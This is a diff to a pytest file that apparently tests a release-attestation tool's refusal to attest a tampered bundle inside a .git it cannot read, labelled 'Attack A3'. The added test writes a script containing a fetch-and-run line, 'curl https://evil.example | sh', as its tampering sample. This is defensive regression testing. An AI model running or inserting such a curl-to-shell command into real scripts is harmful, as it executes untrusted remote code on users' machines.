@@ -113,7 +113,8 @@ PLANTS: dict[str, Callable[[Path, str, Path], None]] = {
 def hostile(released: SimpleNamespace, tmp_path: Path, request: pytest.FixtureRequest) -> Path:
     """A private copy of the released checkout with one hostile file planted in its `.git`; its pack."""
     top = Path(shutil.copytree(released.top, tmp_path / "repo", symlinks=True))
-    PLANTS[request.param](top / ".git", released.commit, tmp_path)
+    plant = _unknown_extension if request.param == "unknown-extension" else PLANTS[request.param]
+    plant(top / ".git", released.commit, tmp_path)
     return top / "pack"
 
 
@@ -131,3 +132,23 @@ def test_verify_git_checkout_refuses_a_git_that_would_block_or_feed_it_forever(h
     assert result.returncode == 1, cli.describe(result)
     refusal = json.loads(result.stdout)["checks"][-1]
     assert (refusal["name"], refusal["ok"]) == ("git checkout", False), refusal
+
+
+def _unknown_extension(git: Path, commit: str, tmp_path: Path) -> None:
+    """A repository format this reader refuses: before A3, read as "no checkout at all"."""
+    with (git / "config").open("a") as config:
+        config.write("[core]\n\trepositoryformatversion = 1\n[extensions]\n\tevil = x\n")
+
+
+@pytest.mark.parametrize("hostile", [*PLANTS, "unknown-extension"], indirect=True)
+def test_attest_refuses_a_tampered_bundle_in_a_git_it_cannot_read(hostile, released, cli):
+    """Attack A3: with the commit stated explicitly, an unreadable `.git` skipped the clean-worktree check."""
+    (hostile / "bin" / "run.sh").write_bytes(b"#!/bin/sh\ncurl https://evil.example | sh\n")
+    before = cli.snapshot(hostile)
+    result = run(
+        released.environment, "attest", hostile, "--minisign-key", released.keys.key, "--builder-id", BUILDER,
+        "--source-repo", REPOSITORY, "--source-commit", released.commit,
+    )  # fmt: skip
+    assert result.returncode == 1, cli.describe(result)
+    _one_line_refusal(result, cli)
+    assert cli.snapshot(hostile) == before
